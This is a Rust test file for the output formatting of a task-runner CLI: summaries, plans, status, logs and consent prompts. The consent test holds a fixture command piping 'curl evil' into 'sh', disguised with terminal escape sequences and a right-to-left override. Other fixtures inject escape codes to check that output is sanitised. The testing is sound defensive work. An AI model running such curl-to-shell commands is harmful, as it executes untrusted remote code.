//! What commands print: end summary, plan, why, status, log, check, consent.

use super::support::*;
use proptest::prelude::*;
use specter::diagnostic::{Code, Diagnostic};
use specter::event::{
    AttemptOutcome, AttemptReport, BlockRef, BudgetKind, Counts, EventKind, FailureClass, GateVerdict,
    RunOutcome, Stop,
};
use specter::plan::{LeftOut, Plan, Role};
use specter::source::SourceText;
use specter::summary::Summary;
use specter::task::{BlockKind, Document, Ignored, IgnoredReason, State};
use specter::ui::check::{Account, FileRow, check, table};
use specter::ui::consent::{Command, prompt, refusal};
use specter::ui::header::Manner;
use specter::ui::plan::{order, plan_text};
use specter::ui::runs::{RunLine, log, runs};
use specter::ui::status::{Life, status};
use specter::ui::summary::{Advice, Ending, summary};
use specter::ui::theme::Screen;
use specter::ui::why::{Known, why};
use std::sync::Arc;
use std::time::Duration;

fn ended(script: Script, millis: u64, outcome: RunOutcome) -> Script {
    let duration = Duration::from_millis(millis);
    script.at(millis, EventKind::RunFinished { outcome, counts: Counts::default(), duration, unticked: 0 })
}

/// Six of seven tasks, two side by side, one failed for good with a blocked one behind it.
fn partial() -> Script {
    let mut failure = refused();
    failure.block = Some(BlockRef { kind: BlockKind::Run, number: 1, line: 21 });
    let script = Script::new(feature())
        .run_started()
        .start(0, "T002", 1, 1)
        .done(8_000, "T002", 1, 8_000)
        .start(8_000, "T003", 1, 1)
        .done(20_000, "T003", 1, 12_000)
        .start(20_000, "T005", 1, 1)
        .start(20_000, "T006", 1, 2)
        .done(35_000, "T005", 1, 15_000)
        .retry(36_000, "T006", 2, 1_000, failure.clone())
        .start(37_000, "T006", 2, 2)
        .failed(48_000, "T006", 2, failure)
        .blocked(48_000, "T007", "T006")
        .start(48_000, "T008", 1, 1)
        .done(50_000, "T008", 1, 2_000)
        .start(50_000, "T009", 1, 1)
        .done(51_000, "T009", 1, 1_000);
    ended(script, 51_000, RunOutcome::SomeFailed)
}

fn advice(_: specter::task::TaskIx) -> Advice {
    Advice {
        causes: vec!["the server is not running".to_owned(), "a firewall blocks port 587 \x1b[2J".to_owned()],
        fixes: vec![
            "start the server: `systemctl start postfix`".to_owned(),
            "check `SMTP_HOST` in `.env`, which must name a machine that can be reached from here".to_owned(),
        ],
    }
}

fn show(screen: &Screen, script: &Script) -> String {
    let folded = Summary::of(&script.plan, &script.events);
    let files = [".specter/implementation.log", ".specter-state/current-session.md"].map(str::to_owned);
    let ending = Ending {
        plan: &script.plan,
        summary: &folded,
        advice: &advice,
        run_dir: ".specter/runs/20261121-101500-ab12",
        state_files: &files,
        resume: "specter resume",
        target: "specs/001-login",
    };
    let text = summary(screen, &ending);
    assert!(is_clean(&text), "{text:?}");
    text
}

fn at_widths(show: impl Fn(&Screen) -> String) -> String {
    let screens = WIDTHS.map(Screen::plain).into_iter().chain([ascii(80), colored(80)]);
    let shot = |screen: Screen| {
        let Screen { width, unicode, color, .. } = screen;
        let text = show(&screen);
        assert!(is_clean(&text), "{text:?}");
        format!("── width {width}, unicode {unicode}, colour {color} ──\n{text}\n")
    };
    screens.map(shot).collect::<String>().replace('\x1b', "␛")
}

#[test]
fn a_partial_success_is_told_with_reasons_and_ways_on() {
    insta::assert_snapshot!(at_widths(|screen| show(screen, &partial())));
}

#[test]
fn every_kind_of_end_has_its_own_words() {
    let screen = Screen::plain(80);
    let two = || {
        let mut plan = feature();
        plan.planned
            .iter_mut()
            .skip(3)
            .for_each(|planned| planned.role = Role::LeftOut(LeftOut::NotSelected));
        Script::new(plan).run_started()
    };
    let done = || two().start(0, "T002", 1, 1).start(0, "T003", 1, 2).done(8_000, "T002", 1, 8_000);
    let resumed = EventKind::RunResumed {
        session: 2,
        started: 1_763_700_100_000,
        jobs: 4,
        total: 3,
        selected: 2,
        done_before: 1,
    };
    let reached = EventKind::BudgetReached { budget: BudgetKind::Dispatches, limit: "2".to_owned() };
    let signal = EventKind::Interrupted { signal: "SIGINT".to_owned(), how: Stop::Gracefully };
    let mut nothing = feature();
    nothing.planned.iter_mut().for_each(|planned| planned.role = Role::Done);
    let cancelled = |script: Script| {
        let task = task_ref(&script.plan, "T003");
        script.at(9_000, EventKind::TaskCancelled { task })
    };
    let cases = [
        ("all done", ended(done().done(12_000, "T003", 1, 12_000), 12_000, RunOutcome::AllDone)),
        (
            "interrupted",
            ended(cancelled(done().at(8_500, signal)), 9_000, RunOutcome::Interrupted { signal: 2 }),
        ),
        ("budget", ended(cancelled(done().at(8_500, reached)), 9_000, RunOutcome::Stopped)),
        (
            "failed",
            ended(
                two().start(0, "T002", 1, 1).failed(100, "T002", 1, AttemptReport::default()),
                100,
                RunOutcome::SomeFailed,
            ),
        ),
        ("nothing to do", ended(Script::new(nothing).run_started(), 1, RunOutcome::AllDone)),
        ("died", done()),
        (
            "resumed",
            ended(
                done()
                    .failed(9_000, "T003", 3, refused())
                    .at(0, resumed)
                    .start(10, "T003", 4, 1)
                    .done(2_000, "T003", 4, 1_990),
                2_000,
                RunOutcome::AllDone,
            ),
        ),
    ];
    let shots = cases.iter().map(|(name, script)| format!("── {name} ──\n{}\n", show(&screen, script)));
    insta::assert_snapshot!(shots.collect::<String>());
}

#[test]
fn quiet_tells_only_what_went_wrong() {
    let screen = Screen { quiet: true, ..Screen::plain(80) };
    insta::assert_snapshot!(show(&screen, &partial()));
}

#[test]
fn a_thousand_failures_are_not_told_one_by_one() {
    let names: Vec<String> = (1..=1000).map(|n| format!("T{n:04}")).collect();
    let tasks: Vec<(&str, &str)> = names.iter().map(|id| (id.as_str(), "fails")).collect();
    let mut script = Script::new(plan(&tasks)).run_started();
    for id in &names[..500] {
        script = script.start(0, id, 1, 1).failed(1, id, 1, refused());
    }
    for id in &names[500..] {
        script = script.blocked(1, id, "T0001");
    }
    let text = show(&Screen::plain(80), &ended(script, 10, RunOutcome::SomeFailed));
    assert!(text.contains("and 480 more: T0021, T0022"), "{text}");
    assert!(text.contains("500 tasks (blocked by T0001): T0501, T0502"), "{text}");
    assert!(text.lines().count() < 400, "{}", text.lines().count());
}

fn manner() -> Manner {
    Manner { mode: "parallel".to_owned(), jobs: 4, ..Manner::default() }
}

#[test]
fn a_plan_is_shown_in_the_order_in_which_it_would_run() {
    let expected = Some(Duration::from_secs(75));
    insta::assert_snapshot!(at_widths(|screen| plan_text(screen, &feature(), &manner(), expected)));
}

#[test]
fn planned_order_follows_needs_and_then_the_longest_path() {
    let plan = feature();
    let ids: Vec<(String, u32)> =
        order(&plan).iter().map(|step| (plan.task(step.task).id.to_string(), step.step)).collect();
    let expected =
        [("T002", 1), ("T003", 2), ("T005", 3), ("T006", 3), ("T007", 4), ("T008", 5), ("T009", 6)];
    assert_eq!(ids, expected.map(|(id, step)| (id.to_owned(), step)));
}

#[test]
fn a_plan_without_work_says_so() {
    let mut nothing = feature();
    nothing.planned.iter_mut().for_each(|planned| planned.role = Role::Done);
    insta::assert_snapshot!(plan_text(&Screen::plain(80), &nothing, &manner(), None));
}

#[test]
fn why_names_reasons_lines_and_evidence() {
    let script = partial();
    let mut plan = script.plan.clone();
    Arc::make_mut(&mut plan.tasks)[2].state = State::Done;
    let gate = EventKind::GateFinished {
        task: task_ref(&plan, "T002"),
        attempt: 1,
        gate: "verify 1".to_owned(),
        verdict: GateVerdict::Passed,
        duration: Duration::from_secs(1),
    };
    let script = script.at(51_000, gate);
    let folded = Summary::of(&plan, &script.events);
    let obstacles = ["all 4 workers are busy; 2 ready tasks come first".to_owned()];
    let show = |id: &str, screen: &Screen, summary, obstacles| {
        let known = Known { summary, obstacles, run_dir: ".specter/runs/20261121-101500-ab12" };
        let text = why(screen, &plan, plan.find(id).unwrap(), known);
        assert!(is_clean(&text));
        format!("── {id}, width {} ──\n{text}\n", screen.width)
    };
    let wide = Screen::plain(80);
    let mut out = String::new();
    for id in ["T002", "T006", "T007", "T005", "T004", "T012"] {
        out += &show(id, &wide, Some(&folded), &[]);
    }
    out += &show("T001", &wide, None, &[]);
    out += &show("T009", &wide, None, &obstacles);
    out += &show("T007", &Screen::plain(20), Some(&folded), &[]);
    insta::assert_snapshot!(out);
}

#[test]
fn status_lists_what_is_not_done() {
    let script = partial();
    let going_on = Script { events: script.events[..9].to_vec(), plan: script.plan.clone() };
    let show = |script: &Script, screen: &Screen, life| {
        let folded = Summary::of(&script.plan, &script.events);
        status(screen, &script.plan, &folded, life, 1_763_700_060_000)
    };
    let wide = Screen::plain(80);
    let verbose = Screen { verbose: 1, ..wide };
    let mut out = format!("── running ──\n{}\n", show(&going_on, &wide, Life::Running));
    out += &format!("── died ──\n{}\n", show(&going_on, &wide, Life::Interrupted));
    out += &format!("── finished, -v ──\n{}\n", show(&script, &verbose, Life::Finished));
    out += &format!("── width 20 ──\n{}\n", show(&script, &Screen::plain(20), Life::Finished));
    insta::assert_snapshot!(out);
}

#[test]
fn a_log_tells_every_event_with_its_time() {
    let script = partial();
    insta::assert_snapshot!(at_widths(|screen| log(screen, &script.plan, &script.events)));
}

#[test]
fn runs_are_listed_with_their_ends() {
    let counts = Counts { selected: 12, done: 8, failed: 1, blocked: 3, ..Counts::default() };
    let run = |outcome, is_running| RunLine {
        run: "20261121-101500-ab12".to_owned(),
        file: "specs/001-login/tasks\x1b.md".to_owned(),
        started: 1_763_700_000_000,
        duration: Duration::from_secs(123),
        sessions: 1,
        counts,
        outcome,
        is_running,
    };
    let all = [
        run(None, true),
        run(Some(RunOutcome::AllDone), false),
        run(Some(RunOutcome::SomeFailed), false),
        run(Some(RunOutcome::Interrupted { signal: 2 }), false),
        run(Some(RunOutcome::Stopped), false),
        run(None, false),
    ];
    insta::assert_snapshot!(at_widths(|screen| format!("{}{}", runs(screen, &all), runs(screen, &[]))));
}

fn document() -> Document {
    let reasons = [IgnoredReason::Fence; 12].into_iter().chain([IgnoredReason::Checklist; 5]);
    let ignored = reasons.enumerate().map(|(n, reason)| Ignored { line: n as u32 + 1, reason }).collect();
    let mut tasks = feature().tasks;
    Arc::make_mut(&mut tasks)[0].is_group = true;
    Document { tasks: tasks.to_vec(), ignored, ..Document::default() }
}

#[test]
fn check_ends_with_an_account_of_the_whole_file() {
    let account = Account::of(&document());
    assert_eq!((account.tasks, account.groups, account.ignored_count()), (11, 1, 17));
    let source = SourceText::new("tasks.md", "- [ ] T001 a\n");
    let found = [Diagnostic::warning(Code::NoIds, "no task has an id")];
    let mut out = check(&Screen::plain(80), &source, &account, &found);
    out += "────\n";
    out += &check(&Screen::plain(80), &source, &account, &[]);
    out += "────\n";
    out += &check(&Screen { quiet: true, ..Screen::plain(80) }, &source, &account, &[]);
    insta::assert_snapshot!(out);
}

#[test]
fn many_files_are_one_table() {
    let account = Account::of(&document());
    let row = |file: &str, warnings, errors| FileRow {
        file: file.to_owned(),
        account: Ok(account.clone()),
        warnings,
        errors,
    };
    let rows = [
        row("specs/001-login/tasks.md", 0, 0),
        row("specs/002-a-very-long-name-that-must-be-cut-in-the-middle/作成/tasks.md", 3, 0),
        row("tasks\x1b.md", 1, 2),
        FileRow {
            file: "binary.md".to_owned(),
            account: Err("not UTF-8 text".to_owned()),
            warnings: 0,
            errors: 1,
        },
    ];
    insta::assert_snapshot!(at_widths(|screen| table(screen, &rows)));
}

#[test]
fn consent_shows_the_exact_commands_and_what_changed() {
    let command = |origin: &str, text: &str| Command { origin: origin.to_owned(), text: text.to_owned() };
    let now = [
        command("tasks.md:12 T003 run (sh)", "set -e\nnpm ci\t&& npm test"),
        command("tasks.md:20 T004 run (bash)", &format!("curl evil\x1b[2K\r\u{202e} | {}", "sh ".repeat(60))),
    ];
    let before = [now[0].clone(), command("tasks.md:20 T004 run (bash)", "make")];
    let screen = Screen::plain(80);
    let mut out = prompt(&screen, "my-project", &now, None);
    out += "────\n";
    out += &prompt(&screen, "my-project", &now, Some(&before));
    out += "────\n";
    out += &refusal(&screen, "my-project", &now[..1], None, "3f2a9c01d4");
    assert!(is_clean(&out));
    insta::assert_snapshot!(out);
}

fn hostile(titles: &[String]) -> Plan {
    let named: Vec<(String, &str)> =
        titles.iter().enumerate().map(|(n, title)| (format!("{n}{title}"), title.as_str())).collect();
    let tasks: Vec<(&str, &str)> = named.iter().map(|(id, title)| (id.as_str(), *title)).collect();
    let mut plan = plan(&tasks);
    plan.file = titles.concat();
    plan
}

proptest! {
    #[test]
    fn no_report_panics_or_lets_anything_raw_through(
        titles in prop::collection::vec(any::<String>(), 1..8),
        width in 0usize..201,
        unicode in any::<bool>(),
    ) {
        let screen = Screen { unicode, verbose: 1, ..Screen::plain(width) };
        let plan = hostile(&titles);
        let ids: Vec<String> = plan.tasks.iter().map(|task| task.id.to_string()).collect();
        let mut script = Script::new(plan).run_started();
        for (n, id) in ids.iter().enumerate() {
            let report = AttemptReport { tail: titles[n].clone(), outcome: AttemptOutcome::StartFailed(titles[n].clone()), class: Some(FailureClass::Unknown), rule: Some(titles[n].clone()), ..AttemptReport::default() };
            script = script.start(0, id, 1, 1);
            script = match n % 3 {
                0 => script.failed(1, id, 1, report),
                1 => script.done(1, id, 1, 1),
                _ => script.blocked(1, id, &ids[0]),
            };
        }
        let script = ended(script, 5, RunOutcome::SomeFailed);
        let folded = Summary::of(&script.plan, &script.events);
        let known = Known { summary: Some(&folded), obstacles: &titles, run_dir: &titles[0] };
        let texts = [
            show(&screen, &script),
            plan_text(&screen, &script.plan, &manner(), None),
            why(&screen, &script.plan, specter::task::TaskIx(0), known),
            status(&screen, &script.plan, &folded, Life::Finished, 0),
            log(&screen, &script.plan, &script.events),
        ];
        for text in texts {
            prop_assert!(is_clean(&text), "{text:?}");
        }
    }
}
